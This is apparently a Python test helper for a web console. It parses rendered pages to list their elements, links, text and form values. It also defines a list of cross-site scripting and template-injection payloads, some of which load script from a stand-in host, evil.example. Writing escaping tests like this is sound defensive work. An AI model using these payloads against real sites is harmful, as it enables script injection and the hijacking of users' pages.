"""Reading the console's pages: what they say, and how they are built."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

# What has tried to become more than text: in HTML, in attributes, in URLs, in scripts, in templates, in styles.
ATTACKS = (
    "<script>alert(1)</script>",
    "</pre></td><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onfocus=alert(1) autofocus='",
    "javascript:alert(1)//",
    "</title><base href=//evil.example>",
    "<!--><iframe srcdoc='<script>alert(1)</script>'>",
    "{{ 7 * 7 }}{% include 'frame.html' %}",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href=data:text/html,<script>alert(1)</script> hx-get=//evil.example hx-trigger=load>x</a>",
    "&lt;script&gt;&#60;img&#62;",
    "\u202e<ScRiPt\u2028>alert(1)</sCrIpT>",
)


class Built(HTMLParser):
    """How a page is built: its elements with the names of their attributes, where it leads to, its text and its fields.

    A place where a long word may be broken is no element: an attack may have as many as it likes.
    """

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.leads: list[str] = []
        self.fields: list[str] = []
        self._texts: list[str] = []
        self.feed(html)
        self.close()

    @property
    def text(self) -> str:
        """All of its text, with single spaces."""
        return " ".join("".join(self._texts).split())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "wbr":
            return
        self._texts.append(" ")
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        self.leads += [str(value) for name, value in attrs if name in {"href", "src", "action", "hx-get", "hx-post"}]
        self.fields += [str(value) for name, value in attrs if name == "value"]

    def handle_endtag(self, tag: str) -> None:
        self._texts.append(" ")

    def handle_data(self, data: str) -> None:
        self._texts.append(data)


def built(answer: Any) -> Built:
    """How the page of this answer is built."""
    return Built(answer.text)
